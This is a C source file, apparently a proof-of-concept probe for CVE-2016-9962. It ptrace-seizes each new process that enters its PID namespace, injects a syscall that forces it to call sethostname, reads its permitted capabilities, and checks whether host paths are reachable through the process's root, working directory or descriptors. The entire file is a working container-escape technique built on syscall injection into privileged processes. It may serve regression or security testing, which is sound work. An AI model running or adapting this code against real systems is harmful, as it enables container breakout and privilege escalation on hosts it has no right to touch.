/* SPDX-License-Identifier: Apache-2.0
 *
 * seize MARKER [FIRST]: seizes each new process of its PID namespace (ptrace(2)), from FIRST or the next number on, says
 * what it holds, and makes it call sethostname, which takes CAP_SYS_ADMIN. CVE-2016-9962.
 *
 * A line for each: PID, exe, CapPrm of the process, whether sethostname succeeded, and where MARKER, a path of the host
 * without its first slash, is found behind its root, its working directory or a descriptor.
 */
#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#if defined(__x86_64__)
typedef struct user_regs_struct registers;
#define CALL 0x050f /* syscall */
#define CALL_MASK 0xffff
#define AT rip
#define RESULT rax
static void prepare(registers *now, long number, long first, long second) {
    now->orig_rax = -1UL; /* no system call of its own is started again */
    now->rax = (unsigned long)number;
    now->rdi = (unsigned long)first;
    now->rsi = (unsigned long)second;
}
#elif defined(__aarch64__)
typedef struct user_regs_struct registers;
#define CALL 0xd4000001 /* svc #0 */
#define CALL_MASK 0xffffffff
#define AT pc
#define RESULT regs[0]
static void prepare(registers *now, long number, long first, long second) {
    now->regs[8] = (unsigned long)number;
    now->regs[0] = (unsigned long)first;
    now->regs[1] = (unsigned long)second;
}
#endif

static long registers_of(pid_t pid, int request, registers *all) {
    struct iovec part = {all, sizeof(*all)};
    return ptrace(request, pid, NT_PRSTATUS, &part);
}

/* A system call by the process, which stands. Its result, or -1. */
static long call(pid_t pid, long number, long first, long second) {
    registers before, now;
    int status;
    if (registers_of(pid, PTRACE_GETREGSET, &before) < 0)
        return -1;
    long code = ptrace(PTRACE_PEEKTEXT, pid, before.AT, 0);
    ptrace(PTRACE_POKETEXT, pid, before.AT, (code & ~(long)CALL_MASK) | CALL);
    now = before;
    prepare(&now, number, first ? first : (long)now.AT, second);
    registers_of(pid, PTRACE_SETREGSET, &now);
    long result = -1;
    if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) &&
        registers_of(pid, PTRACE_GETREGSET, &now) == 0)
        result = (long)now.RESULT;
    ptrace(PTRACE_POKETEXT, pid, before.AT, code);
    registers_of(pid, PTRACE_SETREGSET, &before);
    return result;
}

static unsigned long long permitted(pid_t pid) {
    char path[64], line[256];
    unsigned long long mask = ~0ULL;
    snprintf(path, sizeof(path), "/proc/%d/status", pid);
    FILE *file = fopen(path, "r");
    while (file && fgets(line, sizeof(line), file))
        sscanf(line, "CapPrm: %llx", &mask);
    if (file)
        fclose(file);
    return mask;
}

static void look(pid_t pid, const char *name, const char *marker) {
    char path[4096];
    snprintf(path, sizeof(path), "/proc/%d/%s/%s", pid, name, marker);
    if (access(path, F_OK) == 0)
        printf(" host:%s", name);
}

static void look_at_descriptors(pid_t pid, const char *marker) {
    char path[64], name[300];
    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
    DIR *all = opendir(path);
    for (struct dirent *entry; all && (entry = readdir(all));) {
        snprintf(name, sizeof(name), "fd/%s", entry->d_name);
        if (entry->d_name[0] != '.')
            look(pid, name, marker);
    }
    if (all)
        closedir(all);
}

static void tell(pid_t pid, const char *marker) {
    char path[64], exe[256] = "";
    int status;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
        return;
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    if (readlink(path, exe, sizeof(exe) - 1) < 0)
        strcpy(exe, "?");
    unsigned long long caps = permitted(pid);
    for (char *at = exe; *at; at++)
        *at = *at == ' ' ? '_' : *at;
    printf("%d %s %llx", pid, exe, caps);
    printf(" %s", call(pid, SYS_sethostname, 0, 4) == 0 ? "taken" : "safe");
    look(pid, "root", marker);
    look(pid, "cwd", marker);
    look_at_descriptors(pid, marker);
    printf("\n");
    fflush(stdout);
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* The number that was given last in this PID namespace (proc_loadavg(5)). */
static pid_t newest(void) {
    pid_t pid = 0;
    FILE *file = fopen("/proc/loadavg", "r");
    if (file && fscanf(file, "%*s %*s %*s %*s %d", &pid) != 1)
        pid = 0;
    if (file)
        fclose(file);
    return pid;
}

int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    pid_t next = argc > 2 ? atoi(argv[2]) : getpid() + 1;
    printf("up\n");
    fflush(stdout);
    for (unsigned round = 0;; round++) {
        while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
            ;
        if (round % 64 == 0 && next <= newest())
            next = next < newest() - 8 ? newest() - 8 : next; /* some came and went unseen */
        for (pid_t pid = next; pid < next + 12; pid++) {      /* numbers are given in their order */
            if (pid == getpid())
                continue;
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
                if (errno == EPERM && kill(pid, 0) == 0) /* it is there, and not for us: do not wait for it for ever */
                    next = pid + 1;
                continue;
            }
            tell(pid, argv[1]);
            next = pid + 1;
            break;
        }
    }
}
